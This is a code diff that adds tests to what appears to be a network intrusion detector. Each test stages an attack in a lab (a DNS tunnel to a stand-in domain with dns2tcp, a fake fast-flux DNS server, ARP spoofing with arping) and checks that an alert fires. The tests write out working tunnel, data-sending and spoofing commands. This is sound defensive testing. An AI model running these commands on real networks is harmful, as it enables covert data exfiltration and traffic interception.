@@ -5,6 +5,7 @@
 #include <unistd.h>
 
 #include <chrono>
+#include <cstdlib>
 #include <fstream>
 #include <optional>
 #include <string>
@@ -118,6 +119,67 @@ TEST_F(NameAttacks, ATunnelInDns) {
                          100 * kSecond))
       << alerts_of(*agent_);
   std::printf("a tunnel in DNS (iodine): found %.1f s after its start\n", since.passed());
+}
+
+TEST_F(NameAttacks, ATunnelInDnsByDns2tcp) {
+  for (const char* program : {"dns2tcpd", "dns2tcpc", "socat"})
+    if (!have_program(program)) GTEST_SKIP() << "needs the program " << program;
+  pair();
+  watch(*node_, "eth0");
+  const TempDir directory;
+  const std::string config = directory.path() + "/dns2tcpd.conf";
+  std::ofstream(config) << "listen = " << kNode << "\nport = 53\nuser = root\nchroot = /tmp\n"
+                        << "domain = t.evil-example.net\nresources = sink:127.0.0.1:7000\n";
+  ASSERT_TRUE(
+      others_.start(*node_, {"socat", "-u", "TCP4-LISTEN:7000,fork,reuseaddr", "OPEN:/dev/null"}));
+  ASSERT_TRUE(others_.start(*node_, {"dns2tcpd", "-F", "-f", config}));
+  std::this_thread::sleep_for(std::chrono::seconds(1));
+  const Seconds since;
+  ASSERT_TRUE(others_.start(
+      *pod_, {"dns2tcpc", "-z", "t.evil-example.net", "-r", "sink", "-l", "2222", kNode}));
+  // Data leaves through it, a little at a time, for as long as it takes.
+  ASSERT_TRUE(others_.start(
+      *pod_, {"sh", "-c",
+              "for i in $(seq 1 60); do head -c 60000 /dev/urandom | timeout 5 socat -u - "
+              "TCP4:127.0.0.1:2222; sleep 1; done"}));
+  EXPECT_TRUE(eventually([&] { return has_alert(*agent_, "dns_tunnel", kPod, "evil-example.net"); },
+                         100 * kSecond))
+      << alerts_of(*agent_);
+  std::printf("a tunnel in DNS (dns2tcp): found %.1f s after its start\n", since.passed());
+}
+
+// A name whose addresses change takes five minutes to be told from one that has many.
+TEST_F(NameAttacks, ANameThatFlows) {
+  if (std::getenv("NETPROBE_LONG_TESTS") == nullptr)
+    GTEST_SKIP() << "takes six minutes: set NETPROBE_LONG_TESTS=1";
+  pair();
+  watch(*node_, "eth0");
+  // Three new addresses in each answer, all over the Internet, good for a minute.
+  ASSERT_TRUE(others_.start(
+      *node_,
+      {"python3", "-c",
+       "import random, socket, struct\n"
+       "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('10.77.0.1', 53))\n"
+       "while True:\n"
+       "    q, who = s.recvfrom(512)\n"
+       "    end = q.index(b'\\0', 12) + 5\n"
+       "    a = q[:2] + struct.pack('!HHHHH', 0x8180, 1, 3, 0, 0) + q[12:end]\n"
+       "    for i in range(3):\n"
+       "        a += struct.pack('!HHHIH', 0xc00c, 1, 1, 60, 4) + bytes([\n"
+       "            random.choice([23, 45, 62, 77, 91, 103, 121, 151, 178, 185, 200, 213]),\n"
+       "            random.randrange(256), random.randrange(256), random.randrange(1, 255)])\n"
+       "    s.sendto(a, who)\n"}));
+  const Seconds since;
+  EXPECT_TRUE(eventually(
+      [&] {
+        (void)pod_->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode),
+                         "www.flux-example.com"});
+        std::this_thread::sleep_for(std::chrono::seconds(5));
+        return has_alert(*agent_, "fast_flux", kPod, "www.flux-example.com");
+      },
+      420 * kSecond))
+      << alerts_of(*agent_);
+  std::printf("a name that flows: found %.1f s after it was asked for first\n", since.passed());
 }
 
 TEST_F(NameAttacks, AListedNameThatIsAskedFor) {
@@ -260,6 +322,23 @@ TEST_F(LinkAttacks, ArpSpoofing) {
                  60 * kSecond))
       << alerts_of(*agent_);
   std::printf("ARP spoofing (arpspoof): found %.1f s after its start\n", since.passed());
+}
+
+TEST_F(LinkAttacks, AnswersThatNobodyAskedForByArping) {
+  if (!have_program("arping")) GTEST_SKIP() << "needs the program arping";
+  watch(*node_, "br0");
+  everybody_meets();
+  const auto victim = victim_->run({"cat", "/sys/class/net/eth0/address"});
+  ASSERT_TRUE(victim) << victim.error().message;
+  const Seconds since;
+  ASSERT_TRUE(
+      others_.start(*evil_, {"arping", "-q", "-U", "-P", "-i", "eth0", "-t", victim->substr(0, 17),
+                             "-S", "10.78.0.1", "-c", "30", "10.78.0.2"}));
+  EXPECT_TRUE(
+      eventually([&] { return has_alert(*agent_, "neighbour_spoof", "10.78.0.9", "10.78.0.1"); },
+                 60 * kSecond))
+      << alerts_of(*agent_);
+  std::printf("ARP spoofing (arping -P): found %.1f s after its start\n", since.passed());
 }
 
 TEST_F(LinkAttacks, SpoofedNeighbourAdvertisements) {
